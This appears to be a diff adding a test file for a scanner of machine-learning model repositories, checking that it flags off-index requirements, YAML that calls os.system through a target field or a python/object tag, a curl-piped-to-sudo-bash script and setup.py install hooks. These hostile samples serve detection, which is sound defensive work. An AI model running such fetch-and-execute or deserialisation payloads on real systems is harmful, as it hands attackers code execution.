@@ -1,0 +1,100 @@
+import assert from 'node:assert/strict';
+import test from 'node:test';
+import { Coverage } from '../../findings/coverage.ts';
+import type { Part, Report } from '../format.ts';
+import { Bytes } from '../source.ts';
+import { text } from './index.ts';
+
+async function rules(name: string, content: string): Promise<string[]> {
+  const reports: Report[] = [];
+  const source = new Bytes(new TextEncoder().encode(content));
+  const coverage = new Coverage(source.size);
+  const part: Part = {
+    path: [name],
+    source,
+    coverage,
+    calls: {
+      lookUp: (module, attribute) => ({
+        verdict: `${module}.${attribute}` === 'os.system' ? 'dangerous' : 'unknown',
+        why: 'it runs commands',
+      }),
+    },
+    report: (report) => void reports.push(report),
+    readText: () => {},
+    inside: async () => {},
+    unpack: async () => assert.fail(),
+    pause: () => undefined,
+    note: () => {},
+  };
+  await text.read(part);
+  assert.equal(coverage.bytes.unread, 0);
+  return reports.map(({ rule, severity }) => (severity === undefined ? rule : `${rule} ${severity}`));
+}
+
+test('requirements from elsewhere are told, those of the usual index are not', async () => {
+  for (const line of [
+    '--index-url https://example.com/simple',
+    '--extra-index-url=http://10.0.0.1/',
+    '-f ./wheels',
+    '-i https://user:secret@example.com/simple',
+    'git+https://github.com/evil/transformers',
+    'torch @ https://example.com/torch.whl',
+    '-e git+ssh://git@example.com/x.git#egg=x',
+    'https://example.com/x-1.0-py3-none-any.whl',
+    '../local',
+    '--trusted-host example.com',
+  ])
+    assert.deepEqual(
+      await rules('requirements.txt', `torch==2.1\n${line}\n`),
+      ['repo.requirement-source'],
+      line,
+    );
+  assert.deepEqual(
+    await rules(
+      'requirements.txt',
+      '# see https://example.com\ntorch>=2.1 # ok\n--extra-index-url https://download.pytorch.org/whl/cu121\n-r other.txt\nnumpy[all]==1.0 --hash=sha256:00\n',
+    ),
+    [],
+  );
+});
+
+test('YAML is looked at like other settings', async () => {
+  assert.deepEqual(await rules('model_config.yaml', 'a:\n  _target_: os.system\n  command: id\n'), [
+    'repo.dangerous-target',
+  ]);
+  assert.deepEqual(await rules('c.yml', 'auto_map: {AutoModel: "evil/repo--m.N"}\n'), ['repo.remote-code']);
+  assert.deepEqual(
+    await rules('c.yml', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n'),
+    ['yaml.python-object'],
+  );
+  assert.deepEqual(await rules('c.yml', `${'['.repeat(20_000)}`), []);
+  assert.deepEqual(await rules('c.yml', 'lr: 1e-4\nlayers: [1, 2]\nname: net\n'), []);
+});
+
+test('scripts that fetch and run are told', async () => {
+  assert.deepEqual(await rules('run.sh', '#!/bin/sh\ncurl -s https://example.com/i.sh | sudo bash\n'), [
+    'code.hostile-command',
+  ]);
+  assert.deepEqual(
+    await rules('run.sh', '#!/bin/sh\npip install -r requirements.txt\npython train.py | tee log\n'),
+    [],
+  );
+});
+
+test('a set-up with commands of its own is told', async () => {
+  assert.deepEqual(
+    await rules('setup.py', 'from setuptools import setup\nsetup(name="x", cmdclass={"install": I})\n'),
+    ['repo.install-hook'],
+  );
+  assert.deepEqual(await rules('setup.py', 'from setuptools import setup\nsetup(name="x")\n'), []);
+});
+
+test('code of models as it is written passes', async () => {
+  assert.deepEqual(
+    await rules(
+      'modeling_x.py',
+      'import os, math\nimport torch\nfrom torch import nn\nimport requests\nfrom PIL import Image\n\nclass N(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.path = os.path.join("a", "b")\n    def image(self, url):\n        return Image.open(requests.get(url, stream=True).raw)\n\nmodel = N(None)\nmodel.eval()\nx = torch.compile(model)\nre.compile("a")\n',
+    ),
+    [],
+  );
+});
